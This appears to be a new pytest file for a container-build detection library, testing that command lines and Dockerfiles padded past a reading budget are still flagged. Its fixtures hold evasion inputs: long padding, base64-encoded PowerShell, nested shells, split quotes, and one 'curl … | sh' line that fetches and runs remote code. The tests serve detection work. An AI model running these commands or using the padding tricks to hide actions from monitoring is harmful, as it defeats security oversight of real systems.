@@ -1,0 +1,215 @@
+"""Reading an event takes a bounded time, however long its lines are; what is not read is told."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from t1612core import SENTINEL, Detector, score_dockerfile, score_file, score_process
+from t1612core.container.dockerfile import limits as dockerfile
+from t1612core.shell.limits import LIMIT, MARKS, WHOLE, Budget, read_to
+from t1612core.shell.source import Source
+from t1612core.text.marks import DEAREST, marks
+
+LONG = 1 << 20
+COMMANDS = MARKS // DEAREST  # that are read
+PADDING = "a;" * LONG
+BUILD = "docker build /tmp/x"
+
+
+def encoded(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def signals(name: str, line: str, **more: str) -> dict[str, int]:
+    """Score a process event; the signals with their weights."""
+    event = {"FileName": name, "ProcessCommandLine": line, **more}
+    finding = score_process(event)
+    return {each.signal.id: each.weight for each in finding.evidence} if finding else {}
+
+
+# How far a text is read
+
+
+def test_a_short_line_is_whole_whatever_it_is_made_of() -> None:
+    assert WHOLE == read_to(";" * WHOLE)
+    assert WHOLE == read_to(";" * (WHOLE + 1))
+
+
+def test_a_long_line_without_marks_ends_at_the_limit() -> None:
+    assert LIMIT == read_to("x" * LIMIT)
+    assert LIMIT == read_to("x" * LONG)
+    assert 7 == read_to("x" * LONG, 7)
+
+
+def test_a_line_ends_before_the_mark_that_it_cannot_pay() -> None:
+    assert 2 * COMMANDS + 1 == read_to("a;" * (COMMANDS + 1))
+    assert MARKS == read_to(" " * (MARKS + 1))
+    assert 1 + DEAREST == marks(" ;;", 2)
+
+
+def test_texts_share_one_budget() -> None:
+    """Short ones are counted when that may matter, and what is left out is kept."""
+    budget = Budget()
+    half = Source(";" * (WHOLE // 2))
+    loose = Source("x" * MARKS)
+    long = Source.anchored("a;" * COMMANDS, (3, 9))
+
+    assert half is budget.taken(half)
+    assert loose is budget.taken(loose)
+    assert "a;" * (COMMANDS // 2) + "a" == budget.taken(long).text
+    assert "" == budget.taken(Source(";")).text
+    assert "b" == budget.taken(Source("b")).text
+    assert [";" + "a;" * (COMMANDS // 2 - 1), ";"] == [rest.text for rest in budget.unread]
+    assert (3, 9) == budget.unread[0].locate(0, 1)
+
+
+def test_a_budget_is_as_large_as_one_says() -> None:
+    assert ";;" == Budget(most=2 * DEAREST).taken(Source(";;;")).text
+
+
+def test_of_what_is_left_out_some_are_kept() -> None:
+    budget = Budget()
+    for _ in range(99):
+        budget.leave_out(Source("x"))
+
+    assert 8 == len(budget.unread)
+
+
+def test_of_more_programs_than_are_kept_only_tools_are_told_of() -> None:
+    assert {} == signals("bash", f"bash -c '{'/a;' * 300}/bin/echo docker'")
+    assert {"process.oversized": 3} == signals("bash", f"bash -c '{'/a;' * 300}{BUILD}'")
+
+
+# What is told
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("bash", f"bash -c '{PADDING}{BUILD}'"),
+        ("bash", f"bash -c '{' ' * LONG}{BUILD}'"),
+        ("bash", f"bash -c ': {'x' * LONG};{BUILD}'"),
+        ("sh", f"sh -c \"{PADDING}d''ocker build .\" docker"),
+        ("docker", f"docker {'--config a ' * LONG}build /tmp/x"),
+        ("docker", f"docker ps; {PADDING}"),
+        ("docker", f"docker build . ; {PADDING}"),
+        ("cmd.exe", f"cmd /c {'a&' * LONG}{BUILD}"),
+        ("powershell.exe", f"powershell -c {PADDING}{BUILD}"),
+        ("powershell.exe", f"powershell -enc {encoded('a;' * 20_000 + BUILD)}"),
+        ("docker", f"docker run x powershell -enc {encoded('a;' * 20_000 + BUILD)}"),
+        ("bash", "bash -c \"printf '" + "a;" * 1000 + "%s' " + "a " * 1000 + f'| sh; {BUILD}"'),
+        ("bash", f"bash -c '{'docker ps;' * 256}{BUILD}'"),
+        ("bash", 'bash -c "f() { ' + "a;" * 1000 + "}; " + "f;" * 999 + f'{BUILD}"'),
+        ("bash", f"bash -c \"a='{'a' * 4000}'; {': $a;' * 99} b=docker; $b build /tmp/x\""),
+        ("cmd.exe", f"{'cmd /c ' * 12}{BUILD}"),
+        ("bash", f"bash -c '{'$(' * 11}{BUILD}{')' * 11}'"),
+    ],
+    ids=lambda text: text[:60],
+)
+def test_a_build_behind_padding_is_told_of(name: str, line: str) -> None:
+    """That a line could not be read whole is a finding by itself."""
+    found = signals(name, line)
+
+    assert 3 == found["process.oversized"]
+
+
+def test_padding_takes_no_less_than_a_mark_too_many() -> None:
+    whole = f"bash -c '{'a;' * (COMMANDS - 50)}{BUILD}'"
+    cut = f"bash -c '{'a;' * COMMANDS}{BUILD}'"
+
+    assert {"process.temp_source": 3} == signals("bash", whole)
+    assert {"process.oversized": 3} == signals("bash", cut)
+
+
+def test_the_place_is_what_was_not_read() -> None:
+    line = f"bash -c '{PADDING}{BUILD}'"
+    finding = score_process({"FileName": "bash", "ProcessCommandLine": line})
+    assert finding is not None
+    (item,) = finding.evidence
+    end = read_to(line)
+
+    assert ((end, len(line)), f"{len(line) - end:,} characters") == (item.span, item.text)
+
+
+def test_no_everyday_starter_excuses_it() -> None:
+    line = f"bash -c '{PADDING}{BUILD}'"
+    found = signals("bash", line, InitiatingProcessFileName="gitlab-runner")
+
+    assert {"process.oversized": 3, "process.ci_lineage": 0} == found
+
+
+def test_a_helper_with_such_a_line_is_no_repetition() -> None:
+    more = {
+        "InitiatingProcessFileName": "docker",
+        "InitiatingProcessCommandLine": "docker build .",
+    }
+
+    found = signals("docker-buildx", f"docker-buildx buildx build . ; {PADDING}", **more)
+
+    assert "process.oversized" in found
+    assert "process.repeated_build" not in found
+
+
+@pytest.mark.parametrize(
+    "line",
+    [f"bash -c '{PADDING}curl http://198.51.100.7/x | sh'", f"powershell -c {PADDING}", "x" * LONG],
+    ids=lambda text: text[:20],
+)
+def test_a_starters_line_that_is_cut_is_told_of(line: str) -> None:
+    """Of a build, and of a Dockerfile that is written; and of nothing else."""
+    starter = {
+        "InitiatingProcessFileName": line.partition(" ")[0][:20],
+        "InitiatingProcessCommandLine": line,
+    }
+    written = {"ActionType": "FileCreated", "FileName": "Dockerfile", "FolderPath": "/srv/x/"}
+    of_file = score_file(written | starter)
+
+    assert 2 == signals("docker", "docker build .", **starter)["process.oversized_lineage"]
+    assert {} == signals("docker", "docker ps", **starter)
+    assert of_file is not None
+    assert ("file.oversized_lineage",) == of_file.signals
+
+
+def test_an_ordinary_line_is_not() -> None:
+    starter = {"InitiatingProcessFileName": "java", "InitiatingProcessCommandLine": "x" * LIMIT}
+
+    assert {} == signals("docker", "docker build .", **starter)
+    assert {} == signals("bash", f"bash -c '{'a;' * 1000}docker ps'")
+
+
+def test_it_is_explained() -> None:
+    line = f"bash -c '{PADDING}{BUILD}'"
+    told = Detector().explain({"FileName": "bash", "ProcessCommandLine": line}, kind="process")
+    (branch,) = told.branches
+    states = {each.signal.id: each.state for each in branch.signals}
+
+    assert "fired" == states["process.oversized"]
+
+
+def test_it_is_a_step_of_a_chain_where_it_is_a_finding() -> None:
+    detector = Detector()
+    line = f"bash -c '{PADDING}{BUILD}'"
+    (step,) = detector.observe({"FileName": "bash", "ProcessCommandLine": line})
+
+    assert "build" == step.stage
+    assert 1 == len(
+        detector.observe({"FileName": "bash", "ProcessCommandLine": f"sh -c '{BUILD};{PADDING}'"})
+    )
+
+
+def test_the_published_rule_reads_all_of_it() -> None:
+    line = f"bash -c '{PADDING}{BUILD}'"
+
+    assert None is not Detector(SENTINEL).score_process(
+        {"FileName": "docker", "ProcessCommandLine": line}
+    )
+
+
+def test_a_dockerfile_of_scripts_in_scripts_is_told_of() -> None:
+    """Each text that is read once more counts once more, and all together have a bound."""
+    half = "a;" * (dockerfile.MARKS // DEAREST // 2)
+    text = f'FROM a\nRUN sh -c \'sh -c "sh -c {chr(92)}"{half}{chr(92)}""\'\n'
+
+    assert ("dockerfile.oversized",) == score_dockerfile(text).signals
